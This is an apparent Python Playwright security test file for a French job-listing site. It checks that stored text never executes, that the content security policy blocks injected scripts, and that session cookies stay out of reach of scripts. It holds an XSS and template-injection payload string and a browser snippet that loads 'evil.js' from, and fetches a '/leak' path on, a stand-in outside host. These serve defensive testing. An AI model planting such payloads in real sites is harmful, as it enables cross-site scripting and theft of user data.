"""What a browser refuses to do for an attacker (S05), and what it never tells others (P04)."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest

from app.accounts.enums import Role
from app.core import clock
from app.core.database import db
from app.core.outbox import enqueue
from app.listings.enums import Kind, Status
from app.listings.models import ListingEvent
from tests import factories
from tests.browser import Live, wait_for_worker

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.no_database

Open = Callable[..., "Page"]

ATTACK = """"><img src=x onerror=alert(1)><script>alert(2)</script>'{{7191*7393}}"""


@pytest.fixture(scope="session")
def hostile(live: Live) -> dict[str, Any]:
    """Add a listing and an application in which every text is an attack."""
    with live.writing():
        member, moderator = factories.user(), factories.user(Role.MODERATOR, name=ATTACK)
        owner = factories.organisation(member, name=ATTACK)
        texts = {
            "title": ATTACK,
            "organisation": owner,
            "employer_name": ATTACK,
            "contact_name": ATTACK,
            "conditions": ATTACK,
            "summary": ATTACK,
            "hours_label": ATTACK,
            "collective_agreement": ATTACK,
            "place_label": ATTACK,
            "address": ATTACK,
        }
        listing = factories.listing(**texts)
        event = factories.listing(Kind.EVENT, **texts)
        factories.listing_session(event, label=ATTACK)
        closed = {"status": Status.CLOSED, "closed_at": clock.now(), "outcome": "filled"}
        over = factories.listing(**texts, **closed)
        waiting = factories.listing(**texts, status=Status.IN_REVIEW, published_at=None)
        sent = {"from_status": Status.DRAFT, "to_status": Status.IN_REVIEW, "at": clock.now()}
        db.session.add(ListingEvent(listing_id=waiting.id, **sent))
        application = factories.application(
            listing,
            first_name=ATTACK,
            last_name=ATTACK,
            message=ATTACK,
            commune_label=ATTACK,
            answer_due_at=clock.now() + dt.timedelta(days=1),
        )
        for one in (listing, event):
            enqueue("listing.changed", now=clock.now(), listing_id=one.id)
    wait_for_worker(live)
    return {
        "member": live.cookie_of(member),
        "moderator": live.cookie_of(moderator),
        "anyone": [
            "/",
            "/recherche?q=alert",
            f"/recherche?q={ATTACK}&ou={ATTACK}&type={ATTACK}&metier={ATTACK}",
            f"/candidature/?reference={ATTACK}",
            f"/connexion?next={ATTACK}",
            listing.path,
            f"{listing.path}/candidater",
            event.path,
            over.path,
        ],
        "inside": [
            "/recruter/",
            "/recruter/?vue=liste",
            "/recruter/annonces/",
            f"/recruter/annonces/{listing.id}",
            f"/recruter/annonces/{listing.id}/modifier",
            f"/recruter/candidatures/{application.id}",
            f"/recruter/candidatures/{application.id}/refuser?reason=schedule",
        ],
        "team": ["/equipe/annonces", f"/equipe/annonces/{waiting.id}"],
    }


@pytest.mark.parametrize(
    ("role", "addresses"), [("", "anyone"), ("member", "inside"), ("moderator", "team")]
)
def test_no_text_of_anyone_ever_runs(
    hostile: dict[str, Any], open_browser: Open, role: str, addresses: str
) -> None:
    page = open_browser()
    if role:
        page.context.add_cookies([hostile[role]])
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for address in hostile[addresses]:
        answer = page.goto(address)
        assert answer is not None
        assert answer.status in {200, 410}, address
        assert page.locator("img[src=x]").count() == 0, address
        assert "53163063" not in page.title(), address
    assert dialogs == []


def test_the_policy_stops_a_script_that_got_into_the_page(open_browser: Open) -> None:
    page = open_browser(watched=False)
    page.goto("/")
    stopped = page.evaluate(
        """async (elsewhere) => {
          const stopped = [];
          document.addEventListener('securitypolicyviolation', (event) =>
            stopped.push(event.effectiveDirective));
          const add = (name, values) => document.body.append(
            Object.assign(document.createElement(name), values));
          add('script', {textContent: 'window.hacked = true'});
          add('script', {src: `${elsewhere}/evil.js`});
          add('img', {src: `${elsewhere}/pixel.gif`});
          add('iframe', {src: `${elsewhere}/`});
          document.body.setAttribute('onclick', 'window.hacked = true');
          document.body.click();
          await fetch(`${elsewhere}/leak`).catch(() => {});
          await new Promise((done) => setTimeout(done, 500));
          return {stopped, hacked: Boolean(window.hacked)};
        }""",
        "http://127.0.0.2:9",
    )
    assert stopped["hacked"] is False
    assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "connect-src"} <= set(
        stopped["stopped"]
    )


def test_the_session_is_out_of_reach_of_scripts_and_of_other_sites(
    live: Live, open_browser: Open
) -> None:
    with live.writing():
        person = factories.user()
    page = open_browser()
    page.goto("/connexion")
    page.get_by_label("Votre adresse e-mail").fill(person.email)
    page.get_by_label("Votre mot de passe").fill(factories.PASSWORD)
    before = {cookie["value"] for cookie in page.context.cookies()}
    page.get_by_role("button", name="Me connecter").click()
    page.wait_for_url("**/recruter/")
    (cookie,) = page.context.cookies()
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    assert cookie["value"] not in before
    assert page.evaluate("() => document.cookie") == ""
